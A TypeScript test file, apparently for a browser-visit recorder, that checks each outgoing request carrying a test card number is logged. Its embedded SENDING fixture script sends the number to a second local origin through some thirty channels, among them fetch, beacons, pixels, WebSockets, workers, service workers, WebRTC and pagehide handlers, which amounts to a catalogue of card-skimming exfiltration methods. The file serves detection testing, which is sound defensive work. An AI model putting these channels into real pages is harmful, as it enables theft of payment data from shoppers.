/** Every way by which a page can send a card number away, tried in one real visit. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { SentRequest, VisitRecord } from './port.ts';
import { bodyText, browserMissing, openSites, openTestBrowser, orderOf, type Sites } from './testing.ts';

const CANARY = '4111111111111111';

/** Each line is run on a click, in the page, with `n` the number and `b` the origin that collects. */
const SENDING = `
  const n = document.querySelector('#number').value;
  fetch(b + '/fetch-text', { method: 'POST', body: n });
  fetch(b + '/fetch-blob', { method: 'POST', body: new Blob([n]) });
  fetch(b + '/fetch-buffer', { method: 'POST', body: new TextEncoder().encode(n) });
  fetch(b + '/fetch-header', { headers: { 'x-note': n } }).catch(() => {});
  const form = new FormData(); form.append('number', n); form.append('file', new Blob(['file ' + n]), 'card.txt');
  fetch(b + '/fetch-multipart', { method: 'POST', body: form });
  fetch(b + '/fetch-large', { method: 'POST', body: 'x'.repeat(1500000) + n });
  fetch(b + '/keepalive', { method: 'POST', body: n, keepalive: true });
  fetch(b + '/redirected', { method: 'POST', body: n, mode: 'no-cors' });
  const xhr = new XMLHttpRequest(); xhr.open('POST', b + '/xhr'); xhr.send(n);
  navigator.sendBeacon(b + '/beacon', n);
  navigator.sendBeacon(b + '/beacon-blob', new Blob([n]));
  new Image().src = b + '/pixel?n=' + n;
  const script = document.createElement('script'); script.src = b + '/script?n=' + n; document.body.append(script);
  const style = document.createElement('link'); style.rel = 'stylesheet'; style.href = b + '/style?n=' + n; document.head.append(style);
  document.body.style.backgroundImage = 'url(' + b + '/css-url?n=' + n + ')';
  const prefetch = document.createElement('link'); prefetch.rel = 'prefetch'; prefetch.href = b + '/prefetch?n=' + n; document.head.append(prefetch);
  new EventSource(b + '/event-source?n=' + n);
  const frame = document.createElement('iframe'); frame.src = b + '/iframe?n=' + n; document.body.append(frame);
  const sheet = document.createElement('form'); sheet.method = 'post'; sheet.action = b + '/form'; sheet.target = 'sink';
  sheet.innerHTML = '<input name=number value="' + n + '">'; document.body.append(sheet); sheet.submit();
  const socket = new WebSocket(b.replace('http', 'ws') + '/socket?q=' + n);
  socket.onopen = () => { socket.send(n); socket.send(new TextEncoder().encode('binary ' + n)); socket.send(new Blob(['blob ' + n])); };
  const work = (name) => 'fetch("' + b + '/' + name + '", { method: "POST", body: "' + n + '" })';
  new Worker(URL.createObjectURL(new Blob([work('worker')])));
  new SharedWorker(URL.createObjectURL(new Blob([work('shared-worker')])));
  navigator.serviceWorker.ready.then((ready) => ready.active.postMessage(n));
  const popup = window.open(b + '/popup?n=' + n);
  new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + n + '.b.localhost:' + location.port }] }).createDataChannel('x');
  addEventListener('pagehide', () => {
    navigator.sendBeacon(b + '/pagehide-text', n);
    navigator.sendBeacon(b + '/pagehide-blob', new Blob([n]));
    fetch(b + '/pagehide-fetch', { method: 'POST', body: n, keepalive: true });
  });
`;

const pages = (port: number) => ({
  '/': `<!doctype html><title>見附</title><input id="number"><button id="send">送る</button><iframe name="sink"></iframe>
    <script>const b = 'http://b.localhost:${port}'; navigator.serviceWorker.register('/service.js');
    document.querySelector('#send').onclick = () => {${SENDING}};</script>`,
  '/service.js': `addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => e.waitUntil(clients.claim()));
    addEventListener('message', ({ data }) => fetch('http://b.localhost:${port}/service-worker', { method: 'POST', body: data }));`,
  '/iframe': `<script>fetch('/from-iframe', { method: 'POST', body: location.search })</script>`,
  '/popup': `<script>fetch('/from-popup', { method: 'POST', body: location.search })</script>`,
  '/redirected': (_: unknown, response: import('node:http').ServerResponse) => {
    response.writeHead(307, {
      location: `http://b.localhost:${port}/redirect-end`,
      'access-control-allow-origin': '*',
    });
    response.end();
  },
});

describe('what leaves the browser is recorded', async () => {
  const opened = await openTestBrowser();
  const missing = await browserMissing(opened.browser);
  if (missing) {
    test.skip(missing, () => undefined);
    return;
  }
  let sites: Sites;
  let record: VisitRecord;
  const sent = (path: string): SentRequest | undefined =>
    record.requests.find(({ url }) => URL.parse(url)?.pathname === path);

  beforeAll(async () => {
    sites = await openSites(pages);
    const shop = `http://a.localhost:${sites.port}`;
    record = await opened.browser.visit(
      orderOf([
        { act: 'open', url: `${shop}/` },
        { act: 'fill', on: { css: '#number' }, value: CANARY },
        { act: 'click', on: { css: '#send' } },
      ]),
      'off',
    );
  });
  afterAll(async () => {
    await sites.close();
    await opened.close();
  });

  test('the visit came to its end', () => expect(record.end).toEqual({ kind: 'completed' }));

  test.each([
    ['fetch-text', 'fetch', CANARY],
    ['fetch-blob', 'fetch', CANARY],
    ['fetch-buffer', 'fetch', CANARY],
    ['keepalive', 'fetch', CANARY],
    ['redirected', 'fetch', CANARY],
    ['redirect-end', 'fetch', CANARY],
    ['xhr', 'fetch', CANARY],
    ['beacon', 'beacon', CANARY],
    ['beacon-blob', 'beacon', CANARY],
    ['form', 'document', `number=${CANARY}`],
  ] as const)('%s: with its body and place', (path, kind, body) => {
    const request = sent(`/${path}`);
    expect(request).toMatchObject({ method: 'POST', kind, bodyIncomplete: false, step: 2, refused: false });
    expect(bodyText(request)).toBe(body);
    expect(request?.frameUrl).toBe(`http://a.localhost:${sites.port}/`);
  });

  test.each([
    ['worker', 'fetch'],
    ['shared-worker', 'fetch'],
    ['service-worker', 'fetch'],
    ['pagehide-text', 'beacon'],
    ['pagehide-blob', 'beacon'],
    ['pagehide-fetch', 'fetch'],
  ] as const)('%s: with its body, though no page is there to be asked', (path, kind) => {
    const request = sent(`/${path}`);
    expect(request).toMatchObject({ method: 'POST', kind, bodyIncomplete: false, step: 2 });
    expect(bodyText(request)).toBe(CANARY);
  });

  test.each([
    ['pixel', 'image'],
    ['script', 'script'],
    ['style', 'stylesheet'],
    ['css-url', 'image'],
    ['prefetch', 'other'],
    ['event-source', 'fetch'],
    ['iframe', 'document'],
    ['popup', 'document'],
    ['socket', 'websocket'],
  ] as const)('%s: with the number in its address', (path, kind) => {
    expect(sent(`/${path}`)).toMatchObject({ method: 'GET', kind, step: 2 });
    expect(sent(`/${path}`)?.url).toContain(CANARY);
  });

  test('a header and a part of a form are there as they were sent', () => {
    expect(
      record.requests.find(({ url, method }) => url.endsWith('/fetch-header') && method === 'GET')?.headers['x-note'],
    ).toBe(CANARY);
    expect(bodyText(sent('/fetch-multipart'))).toContain(`\r\n\r\n${CANARY}\r\n`);
    expect(bodyText(sent('/fetch-multipart'))).toContain(`file ${CANARY}`);
    expect(sent('/fetch-large')?.body?.length).toBe(1_500_000 + CANARY.length);
  });

  test('each message on a WebSocket is one record, also of bytes and of a blob', () => {
    const messages = record.requests.filter(({ method, kind }) => method === 'MESSAGE' && kind === 'websocket');
    expect(messages.map(bodyText)).toEqual([CANARY, `binary ${CANARY}`, `blob ${CANARY}`]);
  });

  test('frames, popups and workers are told from the page', () => {
    const b = `http://b.localhost:${sites.port}`;
    expect(sent('/from-iframe')?.frameUrl).toBe(`${b}/iframe?n=${CANARY}`);
    expect(sent('/from-popup')?.frameUrl).toBe(`${b}/popup?n=${CANARY}`);
    expect(sent('/worker')?.frameUrl).toMatch(/^blob:/);
    expect(sent('/service-worker')?.frameUrl).toBe(`http://a.localhost:${sites.port}/service.js`);
  });

  test('the script that sent it is named by its place', () => {
    const [place] = sent('/fetch-text')?.stack ?? [];
    expect(place?.url).toBe(`http://a.localhost:${sites.port}/`);
    const script = record.scripts.find(({ url, inline }) => inline && url === place?.url);
    const line = script?.source.split('\n')[(place?.line ?? 0) - (script?.startLine ?? 0)];
    expect(line).toContain('/fetch-text');
  });

  test('nothing reached a site that is not in the record, and nothing is in it twice', () => {
    const recorded = record.requests.map(({ method, url }) => `${method} ${url.replace(/^ws/, 'http')}`);
    const arrived = sites.reached.map(({ line }) => {
      const [method, host, path] = line.split(' ');
      return `${method} http://${host}:${sites.port}${path}`;
    });
    expect(arrived.length).toBeGreaterThan(30);
    expect(arrived.filter((line) => !recorded.includes(line))).toEqual([]);
    const posts = recorded.filter((line) => line.startsWith('POST'));
    expect(posts).toEqual([...new Set(posts)]);
  });

  test('what is said to the guard is in no record', () => {
    expect(JSON.stringify(record.requests)).not.toMatch(/proxy-authorization|visit\.invalid/i);
  });
});
